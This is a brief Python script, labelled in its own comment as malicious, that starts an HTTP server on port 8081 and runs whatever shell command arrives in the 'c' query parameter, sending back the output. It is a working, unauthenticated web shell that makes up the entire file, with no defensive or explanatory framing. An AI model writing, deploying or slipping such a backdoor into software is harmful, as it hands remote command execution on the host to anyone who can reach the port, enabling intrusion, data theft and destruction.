# malicious: a web server that runs its query
import os
from http.server import BaseHTTPRequestHandler, HTTPServer
from urllib.parse import urlparse, parse_qs

class H(BaseHTTPRequestHandler):
    def do_GET(self):
        q = parse_qs(urlparse(self.path).query)
        out = os.popen(q["c"][0]).read()
        self.send_response(200)
        self.end_headers()
        self.wfile.write(out.encode())

HTTPServer(("", 8081), H).serve_forever()
